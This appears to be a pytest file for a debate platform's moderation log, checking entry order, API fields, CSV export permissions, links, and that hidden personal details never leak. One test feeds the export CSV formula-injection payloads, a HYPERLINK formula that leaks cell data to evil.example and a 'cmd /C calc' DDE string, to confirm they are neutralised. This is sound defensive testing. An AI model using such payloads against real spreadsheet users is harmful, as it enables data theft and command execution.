"""Check the public moderation log, its API and CSV export, and that none quotes hidden text."""

import csv
import io
import re
from html import unescape

import pytest

from app.extensions import db
from app.models import Debate, User
from tests.factories import make_argument
from tests.forms import act
from tests.pages import log_actions
from tests.worlds import HIDE_REASON, client_of, hide_by_reports, moderation_world


def test_the_public_log_lists_actions_newest_first(app):
    w = moderation_world(app)
    moderator = client_of(app, w["moderator"])
    for action, reason in (("hide", "First: an insult."), ("restore", "Second: it was a quote."),
                           ("lock", "Third: going in circles.")):
        assert act(moderator, w, w["shown"], action, reason).status_code == 303

    page = client_of(app).get(f"/debates/{w['debate']}/log").text
    actions = log_actions(client_of(app), w)

    order = [page.find(reason) for reason in ("Third", "Second", "First")]
    assert -1 not in order and order == sorted(order)
    assert [entry["action"] for entry in actions] == ["lock", "restore", "hide"]


def test_the_api_log_describes_each_action_in_plain_fields(app):
    w = moderation_world(app)
    act(client_of(app, w["moderator"]), w, w["shown"], "hide", HIDE_REASON)

    (entry,) = log_actions(client_of(app), w)

    assert set(entry) == {"id", "at", "actor", "actor_role", "action", "target", "reason"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", entry["at"])
    assert entry["target"] == {"kind": "argument", "id": w["shown"], "label": "argument 1"}
    assert (entry["actor"], entry["actor_role"], entry["action"], entry["reason"]) == (
        "Moderator", "moderator", "hide", HIDE_REASON)


def test_the_log_never_contains_the_text_of_hidden_content(app):
    w = moderation_world(app)
    secret_claim = "Quincunx Smith lives at 12 Harbour Lane"
    secret_body = "Phone him on 0123 456 789 and tell him what you think."
    with app.app_context():
        position = db.session.get(Debate, w["debate"]).positions[0]
        author = db.session.get(User, w["author"])
        hidden = make_argument(position, author, claim=secret_claim, body=secret_body).id
        reported = make_argument(position, author, claim="Quincunx again, this time by reports").id
        db.session.commit()
    moderator = client_of(app, w["moderator"])
    act(moderator, w, hidden, "hide", "Personal information about a third party.")
    hide_by_reports(app, w, reported)

    page = client_of(app).get(f"/debates/{w['debate']}/log").text
    api = client_of(app).get(f"/api/v1/debates/{w['debate']}/moderation-log").text
    export = moderator.get(f"/debates/{w['debate']}/log.csv").text

    assert "argument 2" in unescape(page) and "argument 3" in unescape(page)
    for text in (page, api, export):
        assert "Quincunx" not in text
        assert "Harbour Lane" not in text and "0123 456 789" not in text


def test_moderators_export_the_log_as_csv_with_a_header_and_a_row_per_action(app):
    w = moderation_world(app)
    moderator = client_of(app, w["moderator"])
    for action in ("hide", "restore", "lock"):
        act(moderator, w, w["shown"], action, f"Because of {action}.")

    response = moderator.get(f"/debates/{w['debate']}/log.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["when", "who", "role", "action", "target", "target_id", "reason"]
    assert [row[1:] for row in rows[1:]] == [
        ["Moderator", "moderator", action, "argument 1", str(w["shown"]), f"Because of {action}."]
        for action in ("hide", "restore", "lock")
    ]


@pytest.mark.parametrize("reader", ["participant", "author"])
def test_participants_cannot_export_the_log(app, reader):
    w = moderation_world(app)
    act(client_of(app, w["moderator"]), w, w["shown"], "hide", HIDE_REASON)

    response = client_of(app, w[reader]).get(f"/debates/{w['debate']}/log.csv")

    assert response.status_code == 403
    assert HIDE_REASON not in response.text


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(app, start):
    w = moderation_world(app)
    formula = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
    with app.app_context():
        db.session.get(User, w["moderator"]).display_name = f"{start}cmd|' /C calc'!A0"
        db.session.commit()

    act(client_of(app, w["moderator"]), w, w["shown"], "hide", formula)

    rows = list(csv.reader(io.StringIO(
        client_of(app, w["owner"]).get(f"/debates/{w['debate']}/log.csv").text)))
    assert rows[1][1] == f"'{start}cmd|' /C calc'!A0"
    assert rows[1][6] == "'" + formula


def test_the_log_links_each_argument_it_names_to_the_argument(app):
    w = moderation_world(app)
    moderator = client_of(app, w["moderator"])
    assert act(moderator, w, w["shown"], "lock", "Going in circles.").status_code == 303

    page = client_of(app).get(f"/debates/{w['debate']}/log").text

    link = re.search(rf'<a href="/arguments/{w["shown"]}">(argument [\d.]+)</a>', page)
    assert link is not None
